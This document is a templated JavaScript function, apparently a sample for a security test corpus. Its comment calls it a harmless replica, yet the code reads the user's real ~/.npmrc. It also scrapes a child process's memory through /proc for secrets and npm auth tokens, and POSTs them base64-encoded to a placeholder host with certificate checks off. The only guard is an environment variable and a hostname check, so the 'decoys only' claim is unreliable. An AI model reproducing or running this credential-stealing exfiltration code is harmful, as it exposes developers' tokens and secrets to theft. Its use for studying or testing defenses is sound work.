// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawn } = require('child_process');
  const fs = require('fs'), https = require('https');
  let decoy = '{{token}}';
  try { decoy = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); } catch (error) { /* the mark alone */ }
  const child = spawn('sh', ['-c', 'read line; sleep 2'], { env: { PATH: process.env.PATH, SECRET_VALUE: decoy }, stdio: ['pipe', 'ignore', 'ignore'] });
  child.on('error', () => {});
  child.stdin.on('error', () => {});
  await new Promise((done) => setTimeout(done, 200));
  const found = [];
  try {
    const memory = fs.openSync(`/proc/${child.pid}/mem`, 'r');
    for (const line of fs.readFileSync(`/proc/${child.pid}/maps`, 'utf8').split('\n')) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw.*(?:heap|stack)/.exec(line) || [];
      if (!from) continue;
      const size = Math.min(parseInt(to, 16) - parseInt(from, 16), 1 << 20);
      const page = Buffer.alloc(size);
      try { fs.readSync(memory, page, 0, size, parseInt(from, 16)); } catch (error) { continue; }
      found.push(...(page.toString('latin1').match(/(?:SECRET_VALUE=|_authToken=)[\x20-\x7e\n]{4,300}/g) || []));
    }
    fs.closeSync(memory);
  } catch (error) { /* not allowed */ }
  child.kill();
  await new Promise((done) => {
    const request = https.request({ host: '{{host}}', path: '/{{path}}', method: 'POST', timeout: 1000, rejectUnauthorized: false }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
    request.end(Buffer.from(found.join('\n')).toString('base64'));
  });
}
